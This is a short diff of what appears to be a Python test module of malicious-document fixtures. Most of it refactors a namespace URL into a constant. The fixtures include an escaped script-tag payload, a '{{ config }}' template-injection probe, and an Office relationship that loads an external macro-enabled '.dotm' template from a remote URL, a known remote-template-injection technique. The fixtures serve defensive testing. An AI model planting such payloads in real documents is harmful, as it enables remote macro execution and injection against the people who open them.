@@ -77,9 +77,10 @@ def _document(prologue: str, text: str) -> str:
 
 
 _ESCAPED = f"&lt;script&gt;{HACK}&lt;/script&gt; {{{{ config }}}}"
+_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 _REMOTE = (
     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-    '<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    f'<Relationship Id="r9" Type="{_OFFICE}/attachedTemplate" '
     f'Target="{_URL}.dotm" TargetMode="External"/></Relationships>'
 )
 _PACKAGES: dict[str, tuple[bytes, Outcome]] = {
